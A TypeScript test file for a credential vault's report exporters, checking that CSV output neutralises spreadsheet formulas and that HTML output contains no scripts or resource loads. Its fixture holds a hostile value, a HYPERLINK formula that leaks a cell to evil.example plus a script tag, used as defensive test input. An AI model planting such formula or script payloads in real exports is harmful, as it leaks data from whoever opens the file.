import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type AttachmentsReport, attachmentFormat, attachmentWriters } from './attachments.ts'
import { csvText } from './csv.ts'

/** Reads comma-separated values by the grammar of RFC 4180, section 2. */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted, bare, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? bare ?? '')
    if (end === '\r\n') {
      rows.push(row)
      row = []
    }
  }
  return rows
}

const hostile = '=HYPERLINK("https://evil.example/?"&A1,"x")\n<script>alert(1)</script>'
const report: AttachmentsReport = {
  at: '2026-11-21T12:00:00.000Z',
  by: 'ada',
  vault: 'default',
  items: [
    {
      credential: {
        id: '0198f7a0-0000-7000-8000-000000000001',
        name: hostile,
        type: 'api-key',
        system: 'Stripe',
        environment: 'production',
        owner: 'ada',
        team: '',
        status: 'active',
        expiresAt: null,
        lastUsedAt: '2026-11-20T09:30:00.000Z',
      },
      connections: [
        { name: 'Shop, EU', kind: 'http', environment: 'production', target: 'api.example.com:443', via: null },
        { name: 'Inner', kind: 'http', environment: '', target: '10.0.0.1:443', via: 'Bastion' },
      ],
      references: [
        {
          kind: 'file',
          name: '.env',
          location: '/srv/.env',
          note: hostile,
          places: [
            { line: 3, field: 'key' },
            { line: 9, field: '' },
          ],
          goneAt: '2026-11-01T00:00:00.000Z',
        },
      ],
    },
  ],
}
const loose = { ...report.items[0], connections: [], references: [] } as AttachmentsReport['items'][number]

describe('L5 the attachments report', () => {
  it('has a row for each use in CSV, and one for what nothing uses', () => {
    const text = attachmentWriters.csv({ ...report, items: [...report.items, loose] })
    const [head = [], ...rows] = readCsv(text)
    expect(rows.map((row) => row.length)).toEqual(rows.map(() => head.length))
    const column = (name: string) => rows.map((row) => row[head.indexOf(name)])
    expect(column('used_by')).toEqual(['connection', 'connection', 'reference', 'nothing'])
    expect(column('name')).toEqual(['Shop, EU', 'Inner', '.env', ''])
    expect(column('through')).toEqual(['', 'Bastion', '', ''])
    expect(column('lines')).toEqual(['', '', '3 9', ''])
    expect(column('gone_since')[2]).toBe('2026-11-01T00:00:00.000Z')
    // A spreadsheet shows the name, and computes nothing.
    expect(column('credential')).toEqual(Array(4).fill(`'${hostile}`))
  })

  it('is a page that runs nothing and says everything in HTML', () => {
    const html = attachmentWriters.html({ ...report, items: [...report.items, loose] })
    expect(html).not.toMatch(/<script|<link|<img|\ssrc=|\son\w+=|url\(/)
    for (const text of [
      'Shop, EU',
      '10.0.0.1:443, through Bastion',
      'gone since 2026-11-01',
      'line 3 9',
      'Nothing uses it.',
    ])
      expect(html).toContain(text)
  })

  it('keeps everything in JSON', () => {
    expect(JSON.parse(attachmentWriters.json(report))).toEqual(report)
  })

  it('is chosen by the end of the file’s name', () => {
    expect(['a.csv', 'a.JSON', 'a.htm', 'a.html', 'a.txt', '-'].map(attachmentFormat)).toEqual([
      ...['csv', 'json', 'html', 'html', undefined, undefined],
    ])
  })
})

describe('csvText', () => {
  it('is read back as it was, save the mark before what could be a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 4 })), (rows) => {
        const back = readCsv(csvText(rows))
        expect(back).toHaveLength(rows.length)
        for (const [at, row] of rows.entries())
          for (const [index, value] of row.entries()) {
            const read = back[at]?.[index] ?? ''
            expect(read === value || read === `'${value}`).toBe(true)
            expect(read).not.toMatch(/^\s*[=+\-@]/)
          }
      }),
      { numRuns: 200 },
    )
  })
})
